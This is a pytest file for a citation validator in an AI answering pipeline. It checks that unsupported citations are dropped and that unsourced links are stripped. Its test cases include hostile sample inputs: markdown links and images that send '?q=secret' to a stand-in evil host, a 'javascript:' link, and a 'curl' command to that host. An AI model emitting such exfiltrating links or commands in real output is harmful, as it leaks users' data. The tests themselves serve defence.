"""A citation to nothing is removed; the others stand."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from crag.answering.citations import validate
from crag.state import Citation, Source

SOURCE = Source(id="1", title="", url="", position="")
AVAILABLE = [Citation(number=n, text=f"strip {n}", source=SOURCE) for n in (1, 2, 3)]


def test_valid_citations_stay_and_are_listed_once() -> None:
    result = validate("A [2]. B [1][2]. C[3].", AVAILABLE)
    assert result.answer == "A [2]. B [1][2]. C[3]."
    assert [citation["number"] for citation in result.citations] == [1, 2, 3]
    assert result.removed == []


def test_a_citation_to_nothing_is_removed_with_its_space() -> None:
    result = validate("A fact [7]. Another [1, 9].", AVAILABLE)
    assert result.answer == "A fact. Another [1]."
    assert result.removed == [7, 9]


def test_code_is_left_alone() -> None:
    assert validate("Use `a[9]` [1].", AVAILABLE).answer == "Use `a[9]` [1]."


LINKED = [
    Citation(number=1, text="See https://docs.example.org/a, it says.", source=SOURCE),
    Citation(number=2, text="x", source={**SOURCE, "url": "https://example.org/page"}),
]
EVIL = "https://evil.example/?q=secret"


@pytest.mark.parametrize(
    ("said", "answer", "links"),
    [
        ("See https://docs.example.org/a. [1]", "See https://docs.example.org/a. [1]", 0),
        ("[the page](https://example.org/page) [2]", "[the page](https://example.org/page) [2]", 0),
        (f"Go to {EVIL} [1].", "Go to (link removed) [1].", 1),
        (f"[Click]({EVIL}) [1]", "Click [1]", 1),
        (f"![chart]({EVIL}) [1]", "chart [1]", 1),
        ("![chart](https://example.org/page) [2]", "chart [2]", 1),
        (f"It was so [1]({EVIL}).", "It was so [1].", 1),
        ("[Run](javascript:alert(1)) [1]", "Run) [1]", 1),
        (f"![a]({EVIL})![b](<{EVIL}> 'title') [1]", "ab [1]", 2),
        (f"`curl {EVIL}` [1]", f"`curl {EVIL}` [1]", 0),
        ("https://docs.example.org/a?leak=1 [1]", "(link removed) [1]", 1),
    ],
)
def test_a_link_stays_only_if_a_strip_holds_it(said: str, answer: str, links: int) -> None:
    result = validate(said, LINKED)
    assert result.answer == answer
    assert len(result.links) == links


@given(st.text(alphabet="a [],.0123456789`", max_size=80))
def test_what_is_left_cites_only_what_there_is(answer: str) -> None:
    result = validate(answer, AVAILABLE)
    again = validate(result.answer, AVAILABLE)
    assert {citation["number"] for citation in result.citations} <= {1, 2, 3}
    assert again.citations == result.citations or result.removed
